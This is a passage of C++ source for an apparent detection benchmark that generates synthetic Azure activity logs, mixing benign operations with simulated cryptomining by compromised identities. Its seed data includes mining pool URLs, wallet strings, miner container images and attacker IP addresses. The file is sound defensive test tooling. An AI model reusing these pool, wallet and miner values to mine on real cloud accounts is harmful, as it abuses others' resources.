#include "bench/generator.hpp"

#include "bench/json_out.hpp"

#include <algorithm>
#include <array>
#include <cstring>
#include <vector>

namespace minetrace::bench {

namespace {

// ---------------------------------------------------------------------------------------------
// Randomness: xoshiro256** seeded through splitmix64 (fast, and the same stream on every
// platform, unlike <random> distributions).

uint64_t SplitMix(uint64_t& state) {
    uint64_t z = (state += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

// A stateless mix of two numbers (stable ids derived from pool indexes).
uint64_t Mix(uint64_t a, uint64_t b) {
    uint64_t state = a * 0x9e3779b97f4a7c15ULL + b;
    return SplitMix(state);
}

class Rng {
  public:
    explicit Rng(uint64_t seed) {
        for (uint64_t& word : s_) word = SplitMix(seed);
    }
    uint64_t Next() {
        uint64_t result = Rotl(s_[1] * 5, 7) * 9;
        uint64_t t = s_[1] << 17;
        s_[2] ^= s_[0];
        s_[3] ^= s_[1];
        s_[1] ^= s_[2];
        s_[0] ^= s_[3];
        s_[2] ^= t;
        s_[3] = Rotl(s_[3], 45);
        return result;
    }
    // Uniform in [0, n) (Lemire's multiply-shift; the tiny bias is irrelevant here).
    uint32_t Below(uint32_t n) {
        return static_cast<uint32_t>(((Next() >> 32) * static_cast<uint64_t>(n)) >> 32);
    }
    uint32_t Between(uint32_t lo, uint32_t hi) { return lo + Below(hi - lo + 1); }
    bool Chance(double p) { return static_cast<double>(Next() >> 11) * 0x1.0p-53 < p; }
    template <typename T, size_t N> const T& Pick(const std::array<T, N>& items) {
        return items[Below(static_cast<uint32_t>(N))];
    }
    template <typename T> const T& Pick(const std::vector<T>& items) {
        return items[Below(static_cast<uint32_t>(items.size()))];
    }

  private:
    static uint64_t Rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }
    uint64_t s_[4];
};

// ---------------------------------------------------------------------------------------------
// Text helpers.

constexpr char kHex[] = "0123456789abcdef";

struct Guid {
    uint64_t hi = 0;
    uint64_t lo = 0;
};

Guid NewGuid(Rng& rng) {
    Guid g{rng.Next(), rng.Next()};
    g.hi = (g.hi & ~0xf000ULL) | 0x4000ULL;           // version 4
    g.lo = (g.lo & ~(0xcULL << 60)) | (0x8ULL << 60); // RFC 4122 variant
    return g;
}

Guid GuidFrom(uint64_t a, uint64_t b) {
    Guid g{Mix(a, b), Mix(b, a ^ 0x5bd1e995)};
    g.hi = (g.hi & ~0xf000ULL) | 0x4000ULL;
    g.lo = (g.lo & ~(0xcULL << 60)) | (0x8ULL << 60);
    return g;
}

void AppendHex(std::string& out, uint64_t value, int digits) {
    for (int i = digits - 1; i >= 0; --i) out += kHex[(value >> (4 * i)) & 0xf];
}

// 8-4-4-4-12 lowercase, or 32 hex digits without dashes (authorization evidence).
void AppendGuid(std::string& out, const Guid& g, bool dashes = true) {
    AppendHex(out, g.hi >> 32, 8);
    if (dashes) out += '-';
    AppendHex(out, (g.hi >> 16) & 0xffff, 4);
    if (dashes) out += '-';
    AppendHex(out, g.hi & 0xffff, 4);
    if (dashes) out += '-';
    AppendHex(out, g.lo >> 48, 4);
    if (dashes) out += '-';
    AppendHex(out, g.lo & 0xffffffffffffULL, 12);
}

std::string GuidText(const Guid& g, bool dashes = true) {
    std::string s;
    AppendGuid(s, g, dashes);
    return s;
}

std::string Lower(std::string_view text) {
    std::string s(text);
    for (char& c : s)
        if (c >= 'A' && c <= 'Z') c = static_cast<char>(c + 32);
    return s;
}

// Base64url-ish token text (uti, aio claims).
void AppendToken(std::string& out, Rng& rng, int length) {
    static constexpr char kAlphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    uint64_t bits = rng.Next();
    for (int i = 0; i < length; ++i) {
        if (i % 10 == 9) bits = rng.Next();
        out += kAlphabet[bits & 63];
        bits >>= 6;
    }
}

void AppendIpv4(std::string& out, int a, int b, int c, int d) {
    JsonOut::AppendInt(out, a);
    out += '.';
    JsonOut::AppendInt(out, b);
    out += '.';
    JsonOut::AppendInt(out, c);
    out += '.';
    JsonOut::AppendInt(out, d);
}

// ---------------------------------------------------------------------------------------------
// Vocabulary. Nothing here may match the core regex, except the GPU sizes, GPU quota families,
// miner images and miner commands used by mining operations.

constexpr std::array<std::string_view, 40> kFirstNames = {
    "Marco",  "Anna",  "Lukas",   "Sofia",  "Jonas",  "Emma",  "Noah",   "Mia",
    "Elias",  "Lea",   "Liam",    "Olivia", "Mateo",  "Chloe", "Hugo",   "Alice",
    "Arjun",  "Priya", "Kenji",   "Yuki",   "Wei",    "Mei",   "Omar",   "Layla",
    "Pedro",  "Lucia", "Ivan",    "Olga",   "Tomasz", "Zofia", "Sean",   "Aoife",
    "Daniel", "Sarah", "Mohamed", "Fatima", "Samuel", "Grace", "Matteo", "Giulia"};
constexpr std::array<std::string_view, 40> kLastNames = {
    "Bianchi", "Rossi",   "Mueller", "Schmidt",  "Dubois",  "Martin",   "Garcia", "Lopez",
    "Smith",   "Johnson", "Brown",   "Wilson",   "Tanaka",  "Sato",     "Chen",   "Wang",
    "Kumar",   "Patel",   "Nowak",   "Kowalski", "Ivanova", "Petrov",   "Murphy", "Kelly",
    "Silva",   "Santos",  "Haddad",  "Nasser",   "Jensen",  "Hansen",   "Novak",  "Horvat",
    "Moreau",  "Laurent", "Fischer", "Weber",    "Costa",   "Ferreira", "Berg",   "Lindqvist"};
constexpr std::array<std::string_view, 16> kApps = {
    "web", "api",     "data",   "etl", "billing", "crm", "search", "auth",
    "ml",  "reports", "portal", "iot", "media",   "hr",  "erp",    "analytics"};
constexpr std::array<std::string_view, 5> kEnvs = {"prod", "dev", "test", "stage", "qa"};
constexpr std::array<std::string_view, 12> kRegions = {
    "westeurope", "northeurope",   "eastus",    "eastus2",       "westus2",   "southeastasia",
    "uksouth",    "francecentral", "japaneast", "australiaeast", "centralus", "swedencentral"};
constexpr std::array<std::string_view, 14> kCpuSizes = {
    "Standard_D2s_v5", "Standard_D4s_v5",  "Standard_D8s_v5",   "Standard_B2ms",
    "Standard_B4ms",   "Standard_E4s_v5",  "Standard_E8ds_v5",  "Standard_F4s_v2",
    "Standard_F8s_v2", "Standard_DS2_v2",  "Standard_D16as_v5", "Standard_L8s_v3",
    "Standard_A2_v2",  "Standard_D4ads_v5"};
constexpr std::array<std::string_view, 14> kGpuSizes = {
    "Standard_NC24ads_A100_v4", "Standard_NC48ads_A100_v4",  "Standard_NC96ads_A100_v4",
    "Standard_ND96asr_v4",      "Standard_ND96amsr_A100_v4", "Standard_NC6s_v3",
    "Standard_NC24s_v3",        "Standard_NV36ads_A10_v5",   "Standard_NV72ads_A10_v5",
    "Standard_NC4as_T4_v3",     "Standard_NC64as_T4_v3",     "Standard_NC40ads_H100_v5",
    "Standard_ND96isr_H100_v5", "Standard_NG32ads_V620_v1"};
constexpr std::array<std::string_view, 6> kGpuFamilies = {
    "standardNCADSA100v4Family", "standardNDASv4_A100Family", "standardNCSv3Family",
    "standardNVADSA10v5Family",  "standardNCASv3_T4Family",   "standardNCadsH100v5Family"};
constexpr std::array<std::string_view, 5> kCpuFamilies = {
    "standardDSv5Family", "standardESv5Family", "standardFSv2Family", "standardBSFamily",
    "standardDASv5Family"};
constexpr std::array<std::string_view, 5> kPools = {
    "stratum+tcp://gulf.moneroocean.stream:10128", "stratum+ssl://pool.supportxmr.com:443",
    "stratum+tcp://xmr-eu1.nanopool.org:14444", "stratum+tcp://rvn.2miners.com:6060",
    "stratum+ssl://eth.f2pool.com:6688"};
constexpr std::array<std::string_view, 4> kWallets = {
    "46CbZ9WjJG6Uoh87X5qh7EZFiiQpG2zjnr6rMoQSzP2yqZEPUiBLekUJyGB1M5qN74BNE7oLS2YNrsc1jYADsWppZUz84D"
    "H",
    "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUico"
    "D",
    "RKTmT4VxQx7sJrGeFQbeGgU1Hc8yV3nNMT", "0x4bd27a3ef5b1a2c1a7f1d1e9b8c3a4f5e6d7c8b9"};
constexpr std::array<std::string_view, 4> kMinerImages = {
    "docker.io/cryptodev0x/xmrig:latest", "ghcr.io/minerstack/xmrig-cuda:6.21",
    "docker.io/nvidiaminer/t-rex:0.26.8", "docker.io/lolminer/lolminer:1.88"};
constexpr std::array<std::string_view, 5> kBenignCommands = {
    "bash -c 'apt-get update && apt-get install -y nginx'",
    "sh install-agent.sh --workspace-region westeurope",
    "powershell -ExecutionPolicy Unrestricted -File configure-iis.ps1",
    "bash bootstrap.sh --role app --log-level info", "sh join-domain.sh corp.local"};
constexpr std::array<std::string_view, 5> kBenignImages = {
    "mcr.microsoft.com/azuredocs/aci-helloworld:latest", "docker.io/library/nginx:1.25",
    "mcr.microsoft.com/dotnet/aspnet:8.0", "docker.io/library/redis:7.2",
    "docker.io/grafana/grafana:10.2.0"};
// First-party client applications users sign in with.
constexpr std::array<std::string_view, 4> kUserClients = {
    "04b07795-8ddb-461a-bbee-02f9e1bf7b46",  // Azure CLI
    "c44b4083-3bb0-49c1-b47d-974e53cbdf3c",  // Azure Portal
    "1950a258-227b-4e31-a9cf-717495945fc2",  // Azure PowerShell
    "aebc6443-996d-45c2-90f0-388ff96faa56"}; // Visual Studio Code
constexpr std::array<std::string_view, 4> kAmr = {"pwd,mfa", "pwd", "rsa,mfa", "pwd,rsa,mfa"};
constexpr std::array<int, 34> kUserFirstOctets = {
    20, 31, 37, 46, 51, 62, 77, 78,  79,  80,  81,  82,  84,  85,  86,  87,  88,
    89, 90, 91, 92, 93, 94, 95, 109, 176, 178, 185, 188, 193, 194, 195, 212, 217};
constexpr std::array<int, 6> kAzureFirstOctets = {13, 20, 40, 51, 52, 104};

// ---------------------------------------------------------------------------------------------
// The simulated estate.

struct Tenant {
    std::string id;
    std::string domain;
    std::string root_group; // management-group name in "hierarchy"
};

struct Subscription {
    std::string id; // lowercase GUID
    uint32_t tenant = 0;
    std::string hierarchy;
    std::vector<std::pair<uint8_t, uint8_t>> groups; // (app, env) resource groups
};

enum class PrincipalKind : uint8_t { kUser, kServicePrincipal, kManagedIdentity };

struct Principal {
    PrincipalKind kind = PrincipalKind::kUser;
    uint32_t index = 0;
    uint32_t tenant = 0;
    std::string upn;
    std::string given;
    std::string surname;
    std::string display;
    std::string object_id;
    std::string app_id;
    std::string_view appidacr;
    std::string_view amr;
    std::string mirid;
    std::string puid;
    std::string home_ip;
    // The current access token (claims change when it is renewed).
    int64_t token_iat = 0;
    int64_t token_exp = 0;
    std::string aio;
    std::string uti;
    std::string_view audience;
};

enum class Pattern : uint8_t {
    kAsyncCreate, // Start(request) -> Accept(Created, response) -> Success(OK)
    kSyncCreate,  // Start(request) -> Success(Created, response)
    kAction,      // Start -> Accept(Accepted) -> Success(OK)
    kQuick,       // Start -> Success(OK)
    kPolicy,      // one Success record of category Policy
};

enum class Body : uint8_t {
    kNone,
    kVm,
    kVmss,
    kExtension,
    kBatchPool,
    kContainerGroup,
    kQuota,
    kStorage,
    kNsg,
    kNic,
    kPublicIp,
    kDeployment,
    kRoleAssignment,
    kKeyVault,
    kWebSite,
    kSqlDatabase,
};

struct OpKind {
    std::string_view provider; // Microsoft.Compute
    std::string_view type;     // virtualMachines, virtualMachines/extensions
    std::string_view verb;     // write, delete, start/action
    std::string_view display;  // localized operation name (REST)
    std::string_view method;   // HTTP method (REST)
    Pattern pattern;
    Body body;
    uint32_t weight;
    bool core; // operation is one of kCoreOperations
};

// Benign operations and their relative frequency (per operation, not per record).
constexpr std::array<OpKind, 27> kBenignOps = {{
    {"Microsoft.Compute", "virtualMachines", "write", "Create or Update Virtual Machine", "PUT",
     Pattern::kAsyncCreate, Body::kVm, 40, true},
    {"Microsoft.Compute", "virtualMachines", "start/action", "Start Virtual Machine", "POST",
     Pattern::kAction, Body::kNone, 30, false},
    {"Microsoft.Compute", "virtualMachines", "deallocate/action", "Deallocate Virtual Machine",
     "POST", Pattern::kAction, Body::kNone, 30, false},
    {"Microsoft.Compute", "virtualMachines", "restart/action", "Restart Virtual Machine", "POST",
     Pattern::kAction, Body::kNone, 10, false},
    {"Microsoft.Compute", "virtualMachines", "delete", "Delete Virtual Machine", "DELETE",
     Pattern::kAction, Body::kNone, 15, false},
    {"Microsoft.Compute", "virtualMachines/extensions", "write",
     "Create or Update Virtual Machine Extension", "PUT", Pattern::kAsyncCreate, Body::kExtension,
     15, true},
    {"Microsoft.Compute", "virtualMachineScaleSets", "write",
     "Create or Update Virtual Machine Scale Set", "PUT", Pattern::kAsyncCreate, Body::kVmss, 8,
     true},
    {"Microsoft.Batch", "batchAccounts/pools", "write", "Create or Update Pool", "PUT",
     Pattern::kSyncCreate, Body::kBatchPool, 3, true},
    {"Microsoft.ContainerInstance", "containerGroups", "write", "Create or Update Container Group",
     "PUT", Pattern::kSyncCreate, Body::kContainerGroup, 8, true},
    {"Microsoft.Quota", "quotas", "write", "Create or Update Quota", "PUT", Pattern::kAsyncCreate,
     Body::kQuota, 1, false},
    {"Microsoft.Storage", "storageAccounts", "write", "Create/Update Storage Account", "PUT",
     Pattern::kAsyncCreate, Body::kStorage, 25, false},
    {"Microsoft.Storage", "storageAccounts", "listKeys/action", "List Storage Account Keys", "POST",
     Pattern::kQuick, Body::kNone, 120, false},
    {"Microsoft.Network", "networkSecurityGroups", "write",
     "Create or Update Network Security Group", "PUT", Pattern::kAsyncCreate, Body::kNsg, 25,
     false},
    {"Microsoft.Network", "networkInterfaces", "write", "Create or Update Network Interface", "PUT",
     Pattern::kAsyncCreate, Body::kNic, 25, false},
    {"Microsoft.Network", "publicIPAddresses", "write", "Create or Update Public Ip Address", "PUT",
     Pattern::kAsyncCreate, Body::kPublicIp, 10, false},
    {"Microsoft.Network", "virtualNetworks/subnets", "join/action", "Join Virtual Network", "POST",
     Pattern::kQuick, Body::kNone, 40, false},
    {"Microsoft.Network", "networkSecurityGroups", "join/action", "Join Network Security Group",
     "POST", Pattern::kQuick, Body::kNone, 20, false},
    {"Microsoft.Resources", "deployments", "write", "Create Deployment", "PUT",
     Pattern::kAsyncCreate, Body::kDeployment, 30, false},
    {"Microsoft.Resources", "deployments", "validate/action", "Validate Deployment", "POST",
     Pattern::kQuick, Body::kNone, 25, false},
    {"Microsoft.Authorization", "roleAssignments", "write", "Create role assignment", "PUT",
     Pattern::kSyncCreate, Body::kRoleAssignment, 4, false},
    {"Microsoft.KeyVault", "vaults", "write", "Update Key Vault", "PUT", Pattern::kSyncCreate,
     Body::kKeyVault, 8, false},
    {"Microsoft.Web", "sites", "write", "Create or Update Web App", "PUT", Pattern::kSyncCreate,
     Body::kWebSite, 15, false},
    {"Microsoft.Web", "sites", "restart/action", "Restart Web App", "POST", Pattern::kQuick,
     Body::kNone, 15, false},
    {"Microsoft.Sql", "servers/databases", "write", "Create/Update SQL database", "PUT",
     Pattern::kAsyncCreate, Body::kSqlDatabase, 8, false},
    {"Microsoft.Insights", "diagnosticSettings", "write",
     "Create or update resource diagnostic setting", "PUT", Pattern::kSyncCreate, Body::kNone, 6,
     false},
    {"Microsoft.Authorization", "policies", "audit/action", "'audit' Policy action.", "POST",
     Pattern::kPolicy, Body::kNone, 30, false},
    {"Microsoft.Authorization", "policies", "auditIfNotExists/action",
     "'auditIfNotExists' Policy action.", "POST", Pattern::kPolicy, Body::kNone, 20, false},
}};

// Mining operations (picked uniformly among mining activity).
constexpr std::array<OpKind, 6> kMiningOps = {{
    {"Microsoft.Compute", "virtualMachines", "write", "Create or Update Virtual Machine", "PUT",
     Pattern::kAsyncCreate, Body::kVm, 1, true},
    {"Microsoft.Compute", "virtualMachines/extensions", "write",
     "Create or Update Virtual Machine Extension", "PUT", Pattern::kAsyncCreate, Body::kExtension,
     1, true},
    {"Microsoft.Compute", "virtualMachineScaleSets", "write",
     "Create or Update Virtual Machine Scale Set", "PUT", Pattern::kAsyncCreate, Body::kVmss, 1,
     true},
    {"Microsoft.Batch", "batchAccounts/pools", "write", "Create or Update Pool", "PUT",
     Pattern::kSyncCreate, Body::kBatchPool, 1, true},
    {"Microsoft.ContainerInstance", "containerGroups", "write", "Create or Update Container Group",
     "PUT", Pattern::kSyncCreate, Body::kContainerGroup, 1, true},
    {"Microsoft.Quota", "quotas", "write", "Create or Update Quota", "PUT", Pattern::kAsyncCreate,
     Body::kQuota, 1, false},
}};

enum class RecordPhase : uint8_t { kStart, kAccept, kSuccess, kFailure };

struct StatusCode {
    std::string_view name;  // Created, OK, Accepted, Conflict
    std::string_view label; // REST subStatus localizedValue
};
constexpr StatusCode kCreated{"Created", "Created (HTTP Status Code: 201)"};
constexpr StatusCode kOk{"OK", "OK (HTTP Status Code: 200)"};
constexpr StatusCode kAcceptedCode{"Accepted", "Accepted (HTTP Status Code: 202)"};
constexpr std::array<StatusCode, 3> kFailures = {{
    {"Conflict", "Conflict (HTTP Status Code: 409)"},
    {"Forbidden", "Forbidden (HTTP Status Code: 403)"},
    {"BadRequest", "Bad Request (HTTP Status Code: 400)"},
}};
constexpr std::array<std::string_view, 3> kFailureErrors = {
    "{\"error\":{\"code\":\"OperationNotAllowed\",\"message\":\"Operation could not be "
    "completed as it results in exceeding approved Total Regional Cores quota.\"}}",
    "{\"error\":{\"code\":\"AuthorizationFailed\",\"message\":\"The client does not have "
    "authorization to perform action over scope or the scope is invalid.\"}}",
    "{\"error\":{\"code\":\"InvalidParameter\",\"message\":\"The value of parameter "
    "imageReference is invalid.\"}}",
};

struct Record {
    RecordPhase phase = RecordPhase::kStart;
    int64_t time_us = 0;
    int64_t duration_ms = 0;
    const StatusCode* status = nullptr; // null for Start
    bool with_request = false;
    bool with_response = false;
    bool with_status_message = false;
    Guid event_data_id;
    Guid service_request_id;
};

// Everything one operation's records share, with all randomness already drawn, so both shapes
// render the same content.
struct Operation {
    const OpKind* kind = nullptr;
    const Principal* who = nullptr;
    const Subscription* sub = nullptr;
    std::string resource_id; // mixed case, as ARM writes it in REST
    std::string resource_group;
    std::string operation; // Microsoft.Compute/virtualMachines/write
    std::string resource_type;
    std::string_view region;
    std::string caller_ip;
    Guid correlation_id;
    Guid operation_id;
    Guid client_request_id;
    std::string request_body;
    std::string response_body;
    std::string_view status_message;
    std::string policies; // Policy category: the properties.policies JSON text
    std::string role_assignment_id;
    std::string role_definition_id;
    std::string_view role;
    bool mining = false;
    std::array<Record, 3> records;
    int record_count = 0;
};

} // namespace

static void Append2(std::string& out, int v) {
    out += static_cast<char>('0' + v / 10);
    out += static_cast<char>('0' + v % 10);
}

// RFC 3339 with 7 fractional digits and Z, as Azure writes: 2026-10-13T11:20:15.7920000Z.
void AppendTime(std::string& out, int64_t us) {
    int64_t secs = us / 1000000;
    int64_t frac = us % 1000000;
    int64_t days = secs / 86400;
    int64_t rem = secs % 86400;
    // Civil-from-days (Howard Hinnant), valid for the generator's post-1970 times.
    int64_t z = days + 719468;
    int64_t era = z / 146097;
    int64_t doe = z - era * 146097;
    int64_t yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t y = yoe + era * 400;
    int64_t doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    int64_t mp = (5 * doy + 2) / 153;
    int64_t d = doy - (153 * mp + 2) / 5 + 1;
    int64_t m = mp < 10 ? mp + 3 : mp - 9;
    if (m <= 2) ++y;
    JsonOut::AppendInt(out, y);
    out += '-';
    Append2(out, static_cast<int>(m));
    out += '-';
    Append2(out, static_cast<int>(d));
    out += 'T';
    Append2(out, static_cast<int>(rem / 3600));
    out += ':';
    Append2(out, static_cast<int>(rem / 60 % 60));
    out += ':';
    Append2(out, static_cast<int>(rem % 60));
    out += '.';
    char digits[6];
    for (int i = 5; i >= 0; --i) {
        digits[i] = static_cast<char>('0' + frac % 10);
        frac /= 10;
    }
    out.append(digits, 6);
    out += "0Z";
}

// ---------------------------------------------------------------------------------------------

struct ActivityGenerator::Impl {
    explicit Impl(const GeneratorOptions& o) : options(o), rng(o.seed) { BuildEstate(); }

    GeneratorOptions options;
    Rng rng;
    GeneratorStats stats;
    std::vector<Tenant> tenants;
    std::vector<Subscription> subscriptions;
    std::vector<std::vector<uint32_t>> subs_of_tenant;
    std::vector<Principal> principals;
    std::vector<std::vector<uint32_t>> principals_of_tenant;
    std::vector<uint32_t> attackers;
    std::vector<std::string> attacker_ips;
    std::vector<uint32_t> benign_cumulative;
    uint32_t benign_total = 0;
    int64_t now_us = 1788220800LL * 1000000; // 2026-09-01T00:00:00Z
    uint64_t op_index = 0;
    uint64_t mining_serial = 0;
    bool emitted_any = false;

    // Late phases wait in slots and are emitted `delay` operations later (1..kSlots-1).
    static constexpr size_t kSlots = 64;
    std::array<std::string, kSlots> slots;

    Operation op;
    std::string scratch;
    std::string name;

    void BuildEstate();
    void RenewToken(Principal& p);
    void Step(std::string& out);
    void BuildOperation(bool mining);
    void BuildBodies();
    void Render(const Record& record, std::string& out);
    void RenderExport(const Record& record, std::string& out);
    void RenderRest(const Record& record, std::string& out);
    void Claims(JsonOut& w, const Principal& p);

    std::string UserIp() {
        std::string ip;
        if (rng.Chance(0.03)) {
            ip = "2a01:4f8:";
            AppendHex(ip, rng.Below(0x10000), 4);
            ip += ':';
            AppendHex(ip, rng.Below(0x10000), 4);
            ip += "::";
            AppendHex(ip, rng.Between(1, 0xffff), 4);
            return ip;
        }
        AppendIpv4(ip, rng.Pick(kUserFirstOctets), static_cast<int>(rng.Below(256)),
                   static_cast<int>(rng.Below(256)), static_cast<int>(rng.Between(1, 254)));
        return ip;
    }
    std::string AzureIp() {
        std::string ip;
        AppendIpv4(ip, rng.Pick(kAzureFirstOctets), static_cast<int>(rng.Below(256)),
                   static_cast<int>(rng.Below(256)), static_cast<int>(rng.Between(1, 254)));
        return ip;
    }
};

void ActivityGenerator::Impl::BuildEstate() {
    static constexpr std::array<std::string_view, 4> kTenantNames = {
        "contoso", "fabrikamrobotics", "northwindtraders", "tailspin"};
    for (size_t t = 0; t < kTenantNames.size(); ++t) {
        Tenant tenant;
        tenant.id = GuidText(NewGuid(rng));
        tenant.domain = std::string(kTenantNames[t]) + ".onmicrosoft.com";
        tenant.root_group = Lower(kTenantNames[t]);
        for (char& c : tenant.root_group) c = static_cast<char>(c - 32);
        tenant.root_group += "-ROOT";
        tenants.push_back(std::move(tenant));
    }
    subs_of_tenant.resize(tenants.size());
    principals_of_tenant.resize(tenants.size());

    constexpr uint32_t kSubscriptions = 48;
    for (uint32_t s = 0; s < kSubscriptions; ++s) {
        Subscription sub;
        sub.id = GuidText(NewGuid(rng));
        sub.tenant = s % 7 < 4 ? 0 : s % 7 - 3; // the first tenant holds most subscriptions
        const Tenant& tenant = tenants[sub.tenant];
        sub.hierarchy = tenant.id + "/" + tenant.root_group + "/" + sub.id;
        uint32_t groups = rng.Between(5, 12);
        for (uint32_t g = 0; g < groups; ++g)
            sub.groups.emplace_back(static_cast<uint8_t>(rng.Below(kApps.size())),
                                    static_cast<uint8_t>(rng.Below(kEnvs.size())));
        subs_of_tenant[sub.tenant].push_back(s);
        subscriptions.push_back(std::move(sub));
    }

    constexpr uint32_t kUsers = 2400, kServicePrincipals = 400, kManagedIdentities = 120;
    for (uint32_t i = 0; i < kUsers + kServicePrincipals + kManagedIdentities; ++i) {
        Principal p;
        p.index = i;
        p.kind = i < kUsers                        ? PrincipalKind::kUser
                 : i < kUsers + kServicePrincipals ? PrincipalKind::kServicePrincipal
                                                   : PrincipalKind::kManagedIdentity;
        p.tenant = i % 5 < 3 ? 0 : i % 5 - 2 + (i % 2);
        if (p.tenant >= tenants.size() || subs_of_tenant[p.tenant].empty()) p.tenant = 0;
        const Tenant& tenant = tenants[p.tenant];
        p.object_id = GuidText(NewGuid(rng));
        if (p.kind == PrincipalKind::kUser) {
            p.given = rng.Pick(kFirstNames);
            p.surname = rng.Pick(kLastNames);
            p.display = p.given + " " + p.surname;
            p.upn = Lower(p.given) + "." + Lower(p.surname);
            JsonOut::AppendInt(p.upn, i);
            p.upn += "@" + tenant.domain;
            p.app_id = rng.Pick(kUserClients);
            p.appidacr = "0";
            p.amr = rng.Pick(kAmr);
            p.puid = "1003200";
            AppendHex(p.puid, rng.Next(), 9);
            for (char& c : p.puid)
                if (c >= 'a') c = static_cast<char>('A' + (c - 'a'));
            p.home_ip = UserIp();
            p.audience = p.app_id == kUserClients[1] ? "https://management.azure.com/"
                                                     : "https://management.core.windows.net/";
        } else {
            p.app_id = GuidText(NewGuid(rng));
            p.appidacr = rng.Chance(0.7) ? "1" : "2";
            p.home_ip = AzureIp();
            p.audience = "https://management.core.windows.net/";
            if (p.kind == PrincipalKind::kManagedIdentity) {
                p.appidacr = "2";
                const Subscription& sub = subscriptions[rng.Pick(subs_of_tenant[p.tenant])];
                auto group = sub.groups[rng.Below(static_cast<uint32_t>(sub.groups.size()))];
                p.mirid = "/subscriptions/" + sub.id + "/resourcegroups/rg-" +
                          std::string(kApps[group.first]) + "-" + std::string(kEnvs[group.second]) +
                          "/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-" +
                          std::string(kApps[group.first]);
                JsonOut::AppendInt(p.mirid, i);
            }
        }
        principals_of_tenant[p.tenant].push_back(i);
        principals.push_back(std::move(p));
    }
    // A handful of compromised identities (users and service principals) that mine, from a few
    // attacker addresses.
    for (int i = 0; i < 4; ++i) attackers.push_back(rng.Below(kUsers));
    for (int i = 0; i < 3; ++i) attackers.push_back(kUsers + rng.Below(kServicePrincipals));
    static constexpr std::array<std::string_view, 5> kAttackerIps = {
        "45.95.147.21", "185.220.101.47", "193.142.146.35", "91.92.249.110", "2a0d:5600:24:a6::1f"};
    for (auto ip : kAttackerIps) attacker_ips.emplace_back(ip);

    for (const OpKind& kind : kBenignOps) {
        benign_total += kind.weight;
        benign_cumulative.push_back(benign_total);
    }
}

void ActivityGenerator::Impl::RenewToken(Principal& p) {
    p.token_iat = now_us / 1000000 - rng.Below(600);
    p.token_exp = p.token_iat + rng.Between(3600, 5400);
    p.aio.clear();
    p.aio = "E2Rg";
    AppendToken(p.aio, rng, 39);
    p.aio += '=';
    p.uti.clear();
    AppendToken(p.uti, rng, 22);
}

// Builds `op` (all randomness is drawn here).
void ActivityGenerator::Impl::BuildOperation(bool mining) {
    op.mining = mining;
    if (mining) {
        op.kind = &kMiningOps[rng.Below(kMiningOps.size())];
    } else {
        uint32_t draw = rng.Below(benign_total);
        size_t k = 0;
        while (benign_cumulative[k] <= draw) ++k;
        op.kind = &kBenignOps[k];
    }
    const OpKind& kind = *op.kind;

    Principal* who;
    if (mining) {
        who = &principals[attackers[rng.Below(static_cast<uint32_t>(attackers.size()))]];
        op.caller_ip = rng.Pick(attacker_ips);
    } else {
        uint32_t tenant = rng.Chance(0.8) ? 0 : rng.Below(static_cast<uint32_t>(tenants.size()));
        if (principals_of_tenant[tenant].empty()) tenant = 0;
        // Skewed: a minority of principals makes most calls.
        const auto& pool = principals_of_tenant[tenant];
        uint32_t n = static_cast<uint32_t>(pool.size());
        uint32_t pick = rng.Chance(0.6) ? rng.Below(n / 10 + 1) : rng.Below(n);
        who = &principals[pool[pick]];
        op.caller_ip =
            who->kind == PrincipalKind::kUser && rng.Chance(0.1) ? UserIp() : who->home_ip;
    }
    if (now_us / 1000000 >= who->token_exp) RenewToken(*who);
    op.who = who;
    const auto& tenant_subs = subs_of_tenant[who->tenant];
    // Mining concentrates on the first subscriptions of the tenant.
    op.sub = &subscriptions[mining ? tenant_subs[rng.Below(std::min<uint32_t>(
                                         3, static_cast<uint32_t>(tenant_subs.size())))]
                                   : rng.Pick(tenant_subs)];
    const Subscription& sub = *op.sub;
    auto group = sub.groups[rng.Below(static_cast<uint32_t>(sub.groups.size()))];
    std::string_view app = kApps[group.first];
    std::string_view env = kEnvs[group.second];
    op.region = rng.Pick(kRegions);
    op.resource_group = "rg-";
    op.resource_group += app;
    op.resource_group += '-';
    op.resource_group += env;

    // The resource's name: unique for mining (each is a new creation), drawn from a small set
    // per resource group otherwise (the same resources are written again and again).
    name.clear();
    uint32_t number = rng.Between(1, 24);
    auto numbered = [&](std::string_view prefix) {
        name = prefix;
        name += app;
        name += '-';
        name += env;
        name += '-';
        if (mining) {
            JsonOut::AppendInt(name, static_cast<int64_t>(++mining_serial));
        } else {
            if (number < 10) name += '0';
            JsonOut::AppendInt(name, number);
        }
    };

    op.resource_id = "/subscriptions/" + sub.id;
    op.resource_type = std::string(kind.provider) + "/" + std::string(kind.type);
    op.operation = op.resource_type + "/" + std::string(kind.verb);
    auto in_group = [&]() {
        op.resource_id += (rng.Chance(0.5) ? "/resourceGroups/" : "/resourcegroups/");
        op.resource_id += op.resource_group;
        op.resource_id += "/providers/";
        op.resource_id += kind.provider;
        op.resource_id += '/';
    };
    const std::string_view type = kind.type;
    if (type == "virtualMachines" || type == "virtualMachines/extensions") {
        numbered(mining ? "gpu-" : "vm-");
        in_group();
        op.resource_id += "virtualMachines/" + name;
        if (type == "virtualMachines/extensions")
            op.resource_id += mining || rng.Chance(0.5) ? "/extensions/CustomScript"
                                                        : "/extensions/AzureMonitorLinuxAgent";
    } else if (type == "virtualMachineScaleSets") {
        numbered(mining ? "vmss-infer-" : "vmss-");
        in_group();
        op.resource_id += "virtualMachineScaleSets/" + name;
    } else if (type == "batchAccounts/pools") {
        in_group();
        op.resource_id += "batchAccounts/batch";
        op.resource_id += app;
        op.resource_id += env;
        numbered(mining ? "pool-gpu-" : "pool-");
        op.resource_id += "/pools/" + name;
    } else if (type == "containerGroups") {
        numbered(mining ? "aci-infer-" : "aci-");
        in_group();
        op.resource_id += "containerGroups/" + name;
    } else if (type == "quotas") {
